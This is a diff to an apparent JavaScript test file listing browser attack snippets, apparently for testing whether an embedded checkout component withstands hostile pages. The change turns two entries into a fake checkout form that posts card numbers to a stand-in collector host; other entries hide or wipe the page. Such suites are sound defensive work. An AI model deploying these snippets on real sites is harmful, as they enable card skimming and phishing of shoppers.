@@ -62,8 +62,8 @@ export const ATTACKS = [
   { name: 'host animated away', code: onHost("host.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e9, fill: 'both' });") },
   { name: 'html animated away', code: "document.documentElement.animate([{ opacity: 0 }, { opacity: 0 }], { duration: 1e9, fill: 'both' });" },
   // The document.
-  { name: 'document.open and write', code: "document.open(); document.write('<h1>Checkout</h1><input autocomplete=cc-number>'); document.close();" },
-  { name: 'document rewritten again and again', code: again(150, "document.open(); document.write('<h1>Checkout</h1><input autocomplete=cc-number>'); document.close();") },
+  { name: 'document.open and write', code: "document.open(); document.write('<h1>Checkout</h1><form method=post action=https://collector-of-cards.test/take><input autocomplete=cc-number><button>Pay</button></form>'); document.close();" },
+  { name: 'document rewritten again and again', code: again(150, "document.open(); document.write('<h1>Checkout</h1><form method=post action=https://collector-of-cards.test/take><input autocomplete=cc-number><button>Pay</button></form>'); document.close();") },
   { name: 'document element replaced', code: "document.replaceChildren(document.createElement('html'));" },
   { name: 'document element replaced again and again', code: again(100, "document.replaceChildren(document.createElement('html'));") },
   // Reaching in, where the browser lets pages (Firefox).
